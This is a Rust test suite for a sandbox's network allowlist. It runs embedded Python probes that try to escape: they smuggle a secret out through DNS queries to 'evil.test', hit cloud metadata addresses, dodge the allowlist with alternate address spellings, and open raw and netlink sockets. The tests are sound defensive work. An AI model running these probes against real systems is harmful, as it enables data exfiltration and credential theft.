//! Ways around `network.mode = "allowlist"`; the servers of the host and what is told at the end are the witness.

use cofferdam_tests::attack::{Answers, Attack, Tier};
use cofferdam_tests::command::{run, text};
use cofferdam_tests::host::Host;
use cofferdam_tests::scratch::Scratch;
use cofferdam_tests::skip;
use std::net::UdpSocket;

/// Makes the attempts with `ok.test` allowed, which leads to `host`.
#[track_caller]
fn inside(attack: &Attack, host: &Host, more: &[&str]) -> Answers {
    let own = host.named("ok.test");
    let options: Vec<&str> = own.iter().map(String::as_str).chain(more.iter().copied()).collect();
    attack.inside(Tier::Full, Scratch::new().path(), &options)
}

/// A question by hand: `ask(name, kind, server)` answers the code and how many answers there are.
const ASK: &str = "
def message(name, kind):
    labels = b''.join(bytes([len(l)]) + l for l in (name if isinstance(name, bytes) else name.encode()).split(b'.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
def ask(name, kind, server='127.0.0.1', stream=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((server, 53)); question = message(name, kind)
    if stream:
        for byte in struct.pack('>H', len(question)) + question: s.send(bytes([byte]))
        length = struct.unpack('>H', s.recv(2))[0]; answer = s.recv(length)
    else:
        s.send(question); answer = s.recv(512)
    return answer[3] & 15, struct.unpack_from('>H', answer, 6)[0]
def expect(code, count, *arguments, **named):
    got = ask(*arguments, **named)
    if got != (code, count): raise Exception('%r' % (got,))
";

#[test]
fn net_12_names_carry_nothing_out() {
    let (host, outside) = (Host::http(), UdpSocket::bind("127.0.0.1:0").unwrap());
    outside.set_nonblocking(true).unwrap();
    let secret = "s3cr3t".repeat(10);
    let body = format!(
        "{ASK}
for server in ['127.0.0.1', '8.8.8.8', '192.0.2.53']:
    attempt('known ' + server, lambda: expect(0, 1, 'ok.test', 1, server))
    attempt('other ' + server, lambda: expect(3, 0, '{secret}.evil.test', 1, server))
attempt('stream', lambda: expect(0, 1, 'ok.test', 1, '9.9.9.9', stream=True))
attempt('stream-other', lambda: expect(3, 0, '{secret}.evil.test', 28, '9.9.9.9', stream=True))
for kind in [16, 255, 5, 10, 15, 2, 6, 33, 12, 252]:
    attempt('kind-%d' % kind, lambda: expect(5, 0, 'ok.test', kind))
    attempt('other-%d' % kind, lambda: expect(5, 0, '{secret}.evil.test', kind))
for kind in [64, 65]: attempt('service-%d' % kind, lambda: expect(0, 0, 'ok.test', kind))
attempt('long', lambda: expect(3, 0, '.'.join(['a' * 60] * 4), 1))
attempt('below', lambda: expect(3, 0, '{secret}.ok.test', 1))
def dot(): s = socket.create_connection(('9.9.9.9', 853), 5)
def multicast(port, group):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((group, port)); s.send(message('{secret}.local', 1)); s.recv(9)
attempt('tls-resolver', dot)
attempt('mdns', lambda: multicast(5353, '224.0.0.251'))
attempt('llmnr', lambda: multicast(5355, '224.0.0.252'))
attempt('datagram', lambda: (lambda s: (s.connect(('127.0.0.1', {})), s.send(b'x'), s.recv(1)))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)))
",
        outside.local_addr().unwrap().port()
    )
    .replace("lambda: expect", "lambda kind=locals().get('kind'), server=locals().get('server'): expect");
    let Some(attack) = Attack::new(&body) else { return };
    let answers = inside(&attack, &host, &[]);
    for (name, answer) in answers.printed.lines().filter_map(|line| line.rsplit_once(' ')) {
        let refused = ["tls-resolver", "mdns", "llmnr", "datagram"].contains(&name);
        let accepted =
            if refused { &["ECONNREFUSED", "EPERM", "ENETUNREACH", "EACCES", "EINVAL"][..] } else { &["ok"] };
        assert!(accepted.contains(&answer), "{name} answered {answer}: {answers:?}");
    }
    assert!(answers.is_recorded("evil.test") && answers.is_recorded(".ok.test"), "{answers:?}");
    assert!(outside.recv(&mut [0; 8]).is_err(), "a datagram arrived");
}

#[test]
fn net_13_what_is_made_up_below_a_wildcard_has_an_end() {
    let body = format!(
        "{ASK}
count = 0
for number in range(5000):
    if ask('n%d.wild.test' % number, 1)[0] != 0: break
    count += 1
show(count)
attempt('ended', lambda: expect(2, 0, 'one-more.wild.test', 1))
attempt('known', lambda: expect(0, 1, 'n0.wild.test', 1))
"
    );
    let Some(attack) = Attack::new(&body) else { return };
    // Answers of the host's own, so that nothing is asked outside.
    let place = Scratch::new();
    let options =
        ["--allow-net", "*.wild.test:443", "--allow-net", "192.0.2.0/24:443", "--resolve", "*.wild.test=192.0.2.1"];
    let answers = attack.inside(Tier::Full, place.path(), &options);
    assert!(answers.printed.contains("> 4096\n"), "{answers:?}");
    answers.assert_each(2, &["ok"]);
    assert!(answers.is_recorded("one-more.wild.test"), "{answers:?}");
}

#[test]
fn net_16_other_spellings_of_an_address_reach_no_more_than_the_address() {
    let (host, other) = (Host::http(), Host::http());
    let port = other.port();
    let body = format!(
        "
def go(address, port={port}):
    s = socket.create_connection((address, port), 5); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
    if not s.recv(64): raise ConnectionResetError(errno.ECONNRESET, 'ended')
for address in ['2130706433', '0177.1', '127.1', '0x7f.1', '127.0.0.1.', '0', '::ffff:127.0.0.1', '::', '64:ff9b::7f00:1', '::127.0.0.1',
                'localhost', 'ok.test@localhost', 'ok.test#.evil', 'OK.TEST.evil', 'notok.test', 'ok.test.', '\\uff4fk.test']:
    attempt(address.encode('ascii', 'replace').decode(), lambda: go(address))
"
    );
    let Some(attack) = Attack::new(&body) else { return };
    let answers = inside(&attack, &host, &[]);
    assert_eq!(answers.printed.lines().count(), 17, "{answers:?}");
    assert!(!answers.printed.lines().any(|line| line.ends_with(" ok")), "{answers:?}");
    assert_eq!(other.arrived(), 0);
}

#[test]
fn net_10_metadata_is_reached_by_no_wildcard() {
    let host = Host::http();
    let body = "
def go(address):
    s = socket.create_connection((address, 80), 5); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
    if not s.recv(64): raise ConnectionResetError(errno.ECONNRESET, 'ended')
for address in ['169.254.169.254', '100.100.100.200', 'fd00:ec2::254', '::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe', 'metadata.test']:
    attempt(address, lambda: go(address))
";
    let Some(attack) = Attack::new(body) else { return };
    let more = ["--allow-net", "*:80", "--resolve", "metadata.test=169.254.169.254"];
    let answers = inside(&attack, &host, &more);
    assert_eq!(answers.printed.lines().count(), 6, "{answers:?}");
    for line in answers.printed.lines() {
        assert!(!line.ends_with(" ok") && !line.contains("TimeoutError"), "{answers:?}");
    }
    for subject in ["169.254.169.254:80", "100.100.100.200:80", "[fd00:ec2::254]:80", "metadata.test"] {
        assert!(answers.is_recorded(subject), "{subject}: {answers:?}");
    }
}

#[test]
fn net_14_a_name_that_leads_to_this_machine_by_a_public_address_is_refused_unless_that_is_named() {
    if skip::program("python3").is_none() || skip::program("ip").is_none() {
        return;
    }
    // In a network of the test's own, whose loopback has addresses of the open internet.
    const HOST: &str = "
import socket, subprocess, sys, threading
server = socket.socket(socket.AF_INET6); server.setsockopt(41, 26, 0); server.bind(('::', 8777)); server.listen()
arrived = []
def serve():
    while True:
        stream = server.accept()[0]; arrived.append(1); stream.sendall(b'reached'); stream.close()
threading.Thread(target=serve, daemon=True).start()
subprocess.run(sys.argv[1:])
print('arrived', len(arrived))
";
    const GO: &str = "
import socket
for name in ['four.evil.test', 'six.evil.test', 'mixed.evil.test']:
    try: print(name, socket.create_connection((name, 8777), 5).recv(9).decode())
    except OSError: print(name, 'refused')
";
    const SETUP: &str = "ip link set lo up && ip addr add 8.8.4.4/32 dev lo && ip addr add 2606:4700::77/128 dev lo || exit 77\n\
                         exec python3 -c \"$HOST\" \"$@\"";
    let place = Scratch::new();
    for (named, expected) in [(None, ("refused", "arrived 0")), (Some("8.8.4.4:8777"), ("reached", "arrived 1"))] {
        let mut options = vec!["--allow-net", "*.evil.test:8777", "--resolve", "four.evil.test=8.8.4.4"];
        options.extend(["--resolve", "six.evil.test=2606:4700::77", "--resolve", "mixed.evil.test=8.8.8.8"]);
        options.extend(["--resolve", "mixed.evil.test=2606:4700::77"]);
        options.extend(named.into_iter().flat_map(|named| ["--allow-net", named]));
        let inner = run(place.path(), &options, &["python3", "-c", GO]);
        let mut command = std::process::Command::new("unshare");
        command.args(["-Urn", "sh", "-c", SETUP, "sh"]).arg(inner.get_program()).args(inner.get_args());
        command.envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?)))).env("HOST", HOST);
        let output = command.current_dir(place.path()).output().unwrap();
        if output.status.code() == Some(77) {
            return skip::skipped("no addresses can be given to a network of the test's own");
        }
        let told = text(&output.stdout);
        let (four, arrived) = expected;
        assert!(told.contains(&format!("four.evil.test {four}\n")), "{named:?}: {output:?}");
        assert!(told.contains("six.evil.test refused\nmixed.evil.test refused\n"), "{named:?}: {output:?}");
        assert!(told.ends_with(&format!("{arrived}\n")), "{named:?}: {output:?}");
    }
}

#[test]
fn net_06_07_08_unusual_sockets_are_not_made_where_names_are_allowed() {
    let host = Host::http();
    let body = "
for name, family, kind, protocol in [('sctp', 2, 1, 132), ('vsock', 40, 1, 0), ('packet', 17, 3, 0), ('raw', 2, 3, 1), ('ping', 2, 2, 1), ('alg', 38, 5, 0), ('mptcp', 2, 1, 262)]:
    attempt(name, lambda: socket.socket(family, kind, protocol))
def netlink(kind, flags, payload):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.settimeout(2)
    s.send(struct.pack('IHHII', 16 + len(payload), kind, flags | 5, 1, 0) + payload)
    answer = s.recv(4096); code = struct.unpack_from('i', answer, 16)[0]
    if struct.unpack_from('H', answer, 4)[0] == 2 and code: raise OSError(-code, 'netlink')
attempt('remove-route', lambda: netlink(25, 0, struct.pack('BBBBBBBBI', 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack('HHI', 8, 4, 1)))
attempt('name-server', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53)))
attempt('listener', lambda: socket.socket().bind(('127.0.0.1', int(os.environ['PORT']))))
";
    let Some(attack) = Attack::new(body) else { return };
    let port = format!("PORT={}", host.port());
    let answers = inside(&attack, &host, &["--env", &port]);
    answers.assert_each(
        10,
        &[
            "EPERM",
            "EACCES",
            "EAFNOSUPPORT",
            "EPROTONOSUPPORT",
            "ESOCKTNOSUPPORT",
            "EINVAL",
            "EADDRINUSE",
            "EOPNOTSUPP",
            "ENOPROTOOPT",
        ],
    );
}

#[test]
fn net_02_datagrams_are_refused_at_once_so_that_quic_falls_back() {
    let host = Host::http();
    let Some(attack) = Attack::new(
        "
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((socket.getaddrinfo('ok.test', 443, socket.AF_INET)[0][4][0], 443)); s.send(b'\\xc0' + bytes(1199)); s.recv(9)
attempt('quic', quic)
",
    ) else {
        return;
    };
    let answers = inside(&attack, &host, &[]);
    answers.assert("quic", &["ECONNREFUSED"]);
    assert!(answers.is_recorded("ok.test:443/udp"), "{answers:?}");
}

#[test]
fn net_29_connections_that_say_nothing_hold_up_nobody_else() {
    let host = Host::http();
    let Some(attack) = Attack::new(
        "
port = int(os.environ['PORT'])
held = [socket.create_connection(('ok.test', 443)) for _ in range(60)]
def go():
    s = socket.create_connection(('ok.test', port), 10); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
    if not s.recv(64): raise Exception('nothing')
attempt('other', go)
",
    ) else {
        return;
    };
    if skip::program("python3").is_none() {
        return;
    }
    let port = format!("PORT={}", host.port());
    let answers = inside(&attack, &host, &["--env", &port, "--allow-net", "ok.test:443"]);
    answers.assert("other", &["ok"]);
}

#[test]
fn net_30_what_the_guest_listens_on_is_its_own() {
    let host = Host::http();
    let Some(attack) = Attack::new(
        "
s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()
def go():
    c = socket.create_connection(s.getsockname()); c.send(b'x')
    if s.accept()[0].recv(1) != b'x': raise Exception('lost')
attempt('own', go)
",
    ) else {
        return;
    };
    inside(&attack, &host, &[]).assert("own", &["ok"]);
}
